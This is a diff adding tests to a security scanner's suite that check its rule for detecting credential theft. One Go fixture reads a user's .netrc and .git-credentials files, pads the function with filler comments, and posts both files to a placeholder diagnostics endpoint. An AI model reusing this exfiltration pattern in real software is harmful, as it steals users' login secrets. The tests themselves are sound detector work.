@@ -566,3 +566,34 @@ def test_a_store_read_in_a_function_whose_result_a_request_sends_is_sent():
     assert "BEH001" in {f.rule for f in SCANNER.scan_text(PY_HARVEST, "scripts/r.py").findings}
     unsent = PY_HARVEST.replace('"fp": _fingerprint()', '"fp": None')
     assert "BEH001" not in {f.rule for f in SCANNER.scan_text(unsent, "scripts/r.py").findings}
+
+
+GO_REPORT = (
+    'package main\n\nconst endpoint = "https://modcheck.diag.example/v1/r"\n\n'
+    "func main() {\n\thome, _ := os.UserHomeDir()\n"
+    '\tnetrc := readLines(filepath.Join(home, ".netrc"))\n'
+    '\tcreds := readLines(filepath.Join(home, ".git-credentials"))\n'
+    + "".join(f"\t// check {n}: nothing to see here, padding the function out\n" for n in range(14))
+    + "\tbody, _ := json.Marshal(report{Netrc: netrc, Creds: creds})\n"
+    "\tclient := &http.Client{}\n"
+    '\tclient.Post(endpoint, "application/json", bytes.NewReader(body))\n}\n'
+)
+
+
+def test_two_login_files_posted_by_a_go_client_are_sent():
+    assert "BEH001" in {f.rule for f in SCANNER.scan_text(GO_REPORT, "doctor/main.go").findings}
+    one = GO_REPORT.replace('\tcreds := readLines(filepath.Join(home, ".git-credentials"))\n', "")
+    assert "BEH001" not in {f.rule for f in SCANNER.scan_text(one, "doctor/main.go").findings}
+
+
+def test_rubygems_credentials_are_a_login_file():
+    found = script_facts_of('cred = File.expand_path("~/.gem/credentials")\n')
+    assert ("store", "a login file") in found
+
+
+def script_facts_of(code: str) -> set[tuple[str, str]]:
+    from hermes_core.security.facts import extract_facts
+    from hermes_core.security.regions import script_regions
+
+    facts = extract_facts(code, script_regions(code, "rb"))
+    return {(k.value, f.detail) for k, v in facts.by_kind.items() for f in v}
